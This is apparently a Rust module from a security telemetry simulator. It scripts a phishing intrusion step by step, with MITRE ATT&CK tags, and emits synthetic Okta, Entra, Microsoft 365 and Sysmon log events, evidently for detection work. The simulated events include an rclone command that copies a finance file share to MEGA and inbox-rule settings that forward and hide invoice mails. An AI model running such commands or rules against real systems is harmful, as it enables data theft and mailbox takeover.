//! A page that looks like the log-in, and a mailbox that is no longer the owner's alone.

use super::{ATTACKER, Stage, Step, Story};
use crate::{
    cloud::{OktaEvent, Place, SignIn},
    moment::{Moment, millis, minutes, seconds},
    network::{BROWSER, Tunnel},
    windows::Start,
    world::Department,
};

pub(super) static STORY: Story = Story {
    name: "phishing",
    title: "Phishing, a mailbox taken over, and files carried out",
    summary: "Someone in finance follows a link in a mail and gives name, password and the second factor to a page that \
              hands them on. The attacker signs in from another continent, hides their tracks with a rule in the mailbox, \
              takes files from SharePoint, and has a tool on the workstation copy a share to a cloud.",
    begins_at: 9 * 60 + 40,
    steps: &[
        Step {
            name: "mail",
            after: 0,
            technique: "T1566.002",
            what: "A mail with a link comes in from a domain that is a day old",
            play: mail,
        },
        Step {
            name: "false page",
            after: 7,
            technique: "T1204.001",
            what: "The link is followed; a page that looks like the log-in is sent the password",
            play: false_page,
        },
        Step {
            name: "second factor",
            after: 9,
            technique: "T1621",
            what: "Requests for approval are sent until one is approved",
            play: second_factor,
        },
        Step {
            name: "sign-in",
            after: 24,
            technique: "T1078.004",
            what: "A sign-in from another continent, while the owner works in the office",
            play: sign_in,
        },
        Step {
            name: "rule in the mailbox",
            after: 31,
            technique: "T1564.008",
            what: "Mails about invoices are forwarded and moved out of sight",
            play: inbox_rule,
        },
        Step {
            name: "files",
            after: 38,
            technique: "T1213.002",
            what: "Eighty files are downloaded from SharePoint in ten minutes",
            play: files,
        },
        Step {
            name: "carry out",
            after: 65,
            technique: "T1567.002",
            what: "rclone copies the share of finance to a cloud",
            play: carry_out,
        },
    ],
};

const PAGE: &str = "login-brackwater-sso.example";
const CLOUD: &str = "g.api.mega.co.nz";
const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0";

fn victim(stage: &Stage<'_>) -> usize {
    stage.victim(Department::Finance, 0)
}

fn mail(stage: &mut Stage<'_>, at: Moment) {
    let victim = victim(stage);
    let sender = "it-service@login-brackwater-sso.example";
    crate::office::receive_mail(
        stage.scene,
        at,
        ("mta1.login-brackwater-sso.example", "198.51.100.60"),
        sender,
        victim,
    );
}

fn false_page(stage: &mut Stage<'_>, at: Moment) {
    let victim = victim(stage);
    let session = stage.session(victim);
    let login = session.account.name.clone();
    let browser = crate::office::open_program(&session, "browser");
    stage.scene.sysmon_dns(at, &browser, PAGE, &crate::world::address_of(PAGE));
    for turn in 0..3 {
        let at = at + seconds(14 * turn);
        let tunnel = Tunnel {
            at,
            client: session.host,
            user: &login,
            name: PAGE,
            sent: 4200,
            received: 88_000,
            lasts: seconds(9),
        };
        stage.scene.visit(tunnel);
    }
}

fn second_factor(stage: &mut Stage<'_>, at: Moment) {
    let person = victim(stage);
    let event = |kind, message, result| OktaEvent {
        person,
        place: Place::far_away(),
        kind,
        message,
        result,
        application: None,
        agent: AGENT,
    };
    for turn in 0..7 {
        let at = at + seconds(40 * turn);
        stage.scene.okta(
            at,
            &event("system.push.send_factor_verify_push", "Send push verification message", Ok(())),
        );
        stage.scene.okta(
            at + seconds(11),
            &event(
                "user.mfa.okta_verify.deny_push",
                "User rejected Okta push verify",
                Err("INVALID_CREDENTIALS"),
            ),
        );
    }
    let at = at + seconds(300);
    stage
        .scene
        .okta(at, &event("user.authentication.auth_via_mfa", "Authentication of user via MFA", Ok(())));
    stage.scene.okta(at + seconds(1), &event("user.session.start", "User login to Okta", Ok(())));
}

fn sign_in(stage: &mut Stage<'_>, at: Moment) {
    let person = victim(stage);
    let sign_in = |application, place, is_managed| SignIn {
        person,
        place,
        application,
        client: "Browser",
        agent: if is_managed { BROWSER } else { AGENT },
        result: 0,
        is_managed,
        has_second_factor: is_managed,
    };
    // The owner is at work at the same time.
    stage.scene.entra_sign_in(at + seconds(-360), &sign_in("Microsoft Teams", Place::office(), true));
    stage.scene.entra_sign_in(at, &sign_in("Office 365 Exchange Online", Place::far_away(), false));
    stage
        .scene
        .entra_sign_in(at + seconds(50), &sign_in("Office 365 SharePoint Online", Place::far_away(), false));
    for turn in 0..6 {
        let address = Place::far_away().address;
        stage.scene.m365_mail_read(
            at + seconds(70 + 20 * turn),
            person,
            &address,
            "Client=OWA;Mozilla/5.0 Firefox/143.0;",
        );
    }
}

fn inbox_rule(stage: &mut Stage<'_>, at: Moment) {
    let person = victim(stage);
    let parameters = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Force", "False"),
        ("MoveToFolder", "RSS Subscriptions"),
        ("Name", "."),
        ("SubjectOrBodyContainsWords", "invoice;payment;bank"),
        ("ForwardTo", "k.dalgaard.archive@gmail.com"),
        ("MarkAsRead", "True"),
        ("StopProcessingRules", "True"),
    ];
    stage.scene.m365_inbox_rule(at, person, &Place::far_away().address, &parameters);
}

fn files(stage: &mut Stage<'_>, at: Moment) {
    let person = victim(stage);
    for number in 0..80 {
        let at = at + seconds(7 * number) + millis(stage.scene.random.between(0, 4000));
        let file = format!("finance/Shared Documents/Contracts/Contract_{:04}.pdf", 300 + number);
        stage.scene.m365_file(at, person, &Place::far_away().address, "FileDownloaded", &file);
    }
}

fn carry_out(stage: &mut Stage<'_>, at: Moment) {
    let victim = victim(stage);
    let session = stage.session(victim);
    let login = session.account.name.clone();
    let folder = format!("C:\\Users\\{login}\\AppData\\Local\\Temp\\rc\\");
    let image = format!("{folder}rclone.exe");
    let shell = "C:\\Windows\\System32\\cmd.exe";
    let cmd = stage.child(
        at,
        &session.shell,
        Start::user(shell, &format!("\"{shell}\" /c start.bat")).within(&folder),
        1_500_000,
    );
    stage.scene.sysmon_file(at + seconds(2), &cmd, &image);
    let command =
        "rclone.exe copy \\\\FS01\\Finance mega:in --transfers 12 --no-check-certificate --config rc.conf";
    let tool = stage.child(at + seconds(9), &cmd, Start::user(&image, command).within(&folder), 1_400_000);
    stage.scene.sysmon_dns(at + seconds(10), &tool, CLOUD, &crate::world::address_of(CLOUD));
    let from = stage.scene.host(session.host).address;
    let files: Vec<String> = (0..40).map(|number| format!("2026\\Ledger_{number:02}.xlsx")).collect();
    stage.scene.smb_session(
        at + seconds(11),
        &session.account,
        &from,
        ("Finance", "D:\\Shares\\Finance"),
        &files,
        2_300_000_000,
    );
    for part in 0..4 {
        let at = at + seconds(14) + minutes(5 * part);
        let port = stage.scene.port();
        stage.scene.sysmon_connection(at, &tool, port, ("10.30.1.15", "proxy01.brackwater.example", 3128));
        let tunnel = Tunnel {
            at,
            client: session.host,
            user: &login,
            name: CLOUD,
            sent: 560_000_000,
            received: 1_900_000,
            lasts: minutes(5),
        };
        stage.scene.visit(tunnel);
    }
    stage.flow(at + minutes(21), &from, (ATTACKER, 443), "ssl", 5200, 3100);
}
